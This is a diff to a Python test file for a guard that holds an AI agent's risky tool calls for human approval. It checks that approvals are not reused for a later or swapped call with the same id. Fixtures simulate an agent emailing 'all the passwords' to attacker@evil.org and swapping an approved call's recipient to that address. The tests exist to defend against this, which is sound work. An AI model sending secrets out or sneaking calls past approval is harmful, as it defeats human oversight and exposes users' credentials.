@@ -104,20 +104,25 @@ REUSED = [turn(READ, ids=["call_0"]), turn(DELETE, ids=["call_0"]), "done"]
 PATHS = ["middleware", "middleware-async", "guard_node", "guard_node-async", "wrapper", "wrapper-async", "callback"]
 
 
+def graph_for(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> Any:
+    """The agent for one path: "middleware", "guard_node" or "wrapper" (an "-async" suffix
+    only says how the test drives it)."""
+    if path.startswith("middleware"):
+        return middleware_agent(guard, replies, ran)
+    if path.startswith("guard_node"):
+        return node_graph(guard, replies, ran)
+    return wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)
+
+
+async def drive(path: str, graph: Any, value: Any) -> Any:
+    return await graph.ainvoke(value, config()) if path.endswith("async") else graph.invoke(value, config())
+
+
 async def run_path(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> None:
     if path == "callback":
         callback_loop(SodaGuardCallbackHandler(guard, raise_error=True), replies, ran)
         return
-    if path.startswith("middleware"):
-        graph = middleware_agent(guard, replies, ran)
-    elif path.startswith("guard_node"):
-        graph = node_graph(guard, replies, ran)
-    else:
-        graph = wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)
-    if path.endswith("async"):
-        await graph.ainvoke(USER, config())
-    else:
-        graph.invoke(USER, config())
+    await drive(path, graph_for(path, guard, replies, ran), USER)
 
 
 @pytest.mark.parametrize("path", PATHS)
@@ -199,13 +204,7 @@ def transfer_turns(second_args: dict[str, Any]) -> list[Any]:
 def test_an_approval_is_not_reused_for_a_later_call_with_the_same_id(path: str) -> None:
     guard, backend = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
     ran: list[Any] = []
-    replies = transfer_turns({"to": "attacker@evil.org", "body": "all the passwords"})
-    if path == "middleware":
-        graph = middleware_agent(guard, replies, ran)
-    elif path == "guard_node":
-        graph = node_graph(guard, replies, ran)
-    else:
-        graph = wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)
+    graph = graph_for(path, guard, transfer_turns({"to": "attacker@evil.org", "body": "all the passwords"}), ran)
     assert graph.invoke(USER, config())["__interrupt__"]
     second = graph.invoke(Command(resume={"type": "approve"}), config())
     assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
@@ -220,17 +219,10 @@ async def test_no_call_of_an_escalated_turn_runs_before_review_and_each_runs_onc
     guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"})
     ran: list[Any] = []
     replies = [turn(READ, DELETE, ("send_email", {"to": "a@x.org"}), ids=["c0", "c1", "c2"]), "done"]
-    if path.startswith("middleware"):
-        graph = middleware_agent(guard, replies, ran)
-    elif path.startswith("guard_node"):
-        graph = node_graph(guard, replies, ran)
-    else:
-        graph = wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)
-    invoke = graph.ainvoke if path.endswith("async") else None
-    first = await invoke(USER, config()) if invoke else graph.invoke(USER, config())
+    graph = graph_for(path, guard, replies, ran)
+    first = await drive(path, graph, USER)
     assert len(first["__interrupt__"]) == 1 and ran == []
-    answer = Command(resume={"decisions": [{"type": "approve"}]})
-    result = await invoke(answer, config()) if invoke else graph.invoke(answer, config())
+    result = await drive(path, graph, Command(resume={"decisions": [{"type": "approve"}]}))
     assert sorted(ran, key=str) == sorted([READ, DELETE, ("send_email", {"to": "a@x.org", "body": ""})], key=str)
     assert result["messages"][-1].content == "done"
     assert len(backend.requests) == 3
@@ -319,8 +311,7 @@ def test_an_answer_given_to_other_calls_is_not_used_after_the_state_changed(path
     approval was for the first email: the new call is asked about again, not run on it."""
     guard, _ = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
     ran: list[Any] = []
-    first = turn(("send_email", {"to": "ok@x.org"}), ids=["same"])
-    graph = middleware_agent(guard, [first, "done"], ran) if path == "middleware" else node_graph(guard, [first, "done"], ran)
+    graph = graph_for(path, guard, [turn(("send_email", {"to": "ok@x.org"}), ids=["same"]), "done"], ran)
     assert graph.invoke(USER, config())["__interrupt__"]
     swapped = turn(("send_email", {"to": "attacker@evil.org"}), ids=["same"])
     graph.update_state(config(), {"messages": [swapped]}, as_node="model" if path == "middleware" else "agent")
